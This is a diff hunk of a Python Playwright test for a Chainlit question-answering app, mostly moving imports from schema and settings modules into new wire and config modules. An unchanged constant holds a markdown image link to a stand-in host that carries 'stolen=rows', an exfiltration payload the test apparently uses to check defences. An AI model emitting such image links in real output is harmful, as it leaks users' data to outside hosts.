@@ -14,21 +14,19 @@ from playwright.sync_api import Page, expect
 from scripted_service import STOP_LIMIT_S, ScriptedService, answered, ask
 
 from chainlit_app import launch
-from serving.schema import (
-    MAX_QUESTION,
-    Citation,
+from serving.config.settings import load_settings
+from serving.wire.answer import Citation, Query
+from serving.wire.events import (
     Event,
     Failed,
     PassagesFound,
-    Query,
-    Question,
     RowsRead,
     SqlWritten,
     StepFinished,
     StepStarted,
     Token,
 )
-from serving.settings import load_settings
+from serving.wire.question import MAX_QUESTION, Question
 
 EXTERNAL_IMAGE = "![x](http://stranger.example/x.png?stolen=rows)"
 PASSAGE = Citation(
